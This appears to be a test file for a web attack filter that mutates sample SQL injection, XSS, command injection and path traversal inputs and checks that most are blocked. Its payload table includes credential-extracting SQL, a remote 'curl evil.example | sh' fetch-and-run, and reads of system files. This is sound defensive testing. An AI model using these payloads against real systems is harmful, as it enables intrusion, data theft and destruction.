// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how these attacks are written
import { sites } from '../../test-support/send.ts';
import { Random } from '../parser-differences/generate/random.ts';
import { deliver, PLACE_NAMES } from './deliver.ts';
import { KIND_NAMES, KINDS, type KindName } from './kinds.ts';
import { mutantsOf, scoreMutants } from './run.ts';

/** Each is code to its own interpreter and to no other. */
const ATTACKS = {
  sqli: [
    "7' or 31=31-- ",
    "blue' union select name, password from users-- ",
    '7) and 12=12 and (3=3',
    "x' and substr(password,1,1)='k' or 'a'='a",
  ],
  xss: [
    '<img src=x onerror=alert(7)>',
    '"><svg onload=confirm(7)>',
    '<a href="javascript:alert(7)">more</a>',
    "';prompt(7);//",
  ],
  rce: ['; cat /etc/hosts', '$(id)', '|| sleep 7', '10.0.0.7 && curl http://evil.example/a.sh | sh'],
  lfi: [
    '../../../../etc/hosts',
    '..\\..\\..\\windows\\win.ini',
    '/etc/ssh/sshd_config',
    '..%2f..%2f..%2fsrv%2fkey',
  ],
} as const satisfies Record<KindName, readonly string[]>;

const MUTANTS_PER_ATTACK = 20;
/** Of these few short ones; it may only rise. */
const MIN_BLOCKED_PERCENT = { sqli: 97, xss: 85, rce: 88, lfi: 97 } as const satisfies Record<
  KindName,
  number
>;

describe('spellings of an attack that an interpreter still takes for code', () => {
  it.each(KIND_NAMES)('are blocked: %s', async (kind) => {
    const run = { site: sites.medium, seed: 7, mutantsPerAttack: MUTANTS_PER_ATTACK };
    const score = await scoreMutants(run, kind, ATTACKS[kind]);
    expect(score.used).toBe(ATTACKS[kind].length);
    expect(score.all.sent).toBeGreaterThan((ATTACKS[kind].length * MUTANTS_PER_ATTACK) / 2);
    // Texts, not a mere number, so that a failure shows what passed.
    const tolerated = Math.floor((score.all.sent * (100 - MIN_BLOCKED_PERCENT[kind])) / 100);
    expect(score.passed.slice(tolerated)).toEqual([]);
  });
});

describe('mutants', () => {
  it.each(KIND_NAMES)('are the same for the same seed: %s', (kind) => {
    const made = () => mutantsOf(ATTACKS[kind][0], kind, 30, new Random(3)).map(({ text }) => text);
    expect(made()).toEqual(made());
    expect(new Set(made()).size).toBe(30);
  });

  it('reach every place', () => {
    for (const place of PLACE_NAMES) expect(deliver('7 or 1=1', place, new Random(1))).not.toBeNull();
    expect(deliver('two\nlines', 'User-Agent', new Random(1))).toBeNull();
  });
});

describe('interpreters', () => {
  it.each<[KindName, string, string, boolean]>([
    ['sqli', 'quoted string', "x' or 1=1-- ", true],
    ['sqli', 'quoted string', "x' or or 1=1-- ", false],
    ['sqli', 'quoted string', 'x or 1=1', false],
    ['sqli', 'quoted string', "O''Brien", false],
    ['sqli', 'number', '7', false],
    ['sqli', 'number', '7; drop table users', true],
    ['sqli', 'number', '7; drop drop users', false],
    ['rce', 'argument', 'example.net', false],
    ['rce', 'argument', 'example.net;id', true],
    ['rce', 'argument', ';;', false],
    ['rce', 'argument in single quotes', "a'; id; '", true],
    ['rce', 'argument in single quotes', '$(id)', false],
    ['lfi', 'relative', 'a/../b.png', false],
    ['lfi', 'relative', 'a/%252e%252e/../b.png', true],
    ['lfi', 'absolute', '/etc/./hosts', true],
    ['lfi', 'absolute', '/images/a.png', false],
    ['xss', 'text', '<p>alert(1)</p>', false],
    ['xss', 'text', '<p onclick=alert(1)>', true],
    ['xss', 'string in single quotes', 'alert(1)', false],
  ])(
    '%s, %s: %j %j',
    async (kind, position, text, expected) => {
      expect(await KINDS[kind].start().accepts([{ text, position }])).toEqual([expected]);
    },
    30_000,
  );
});
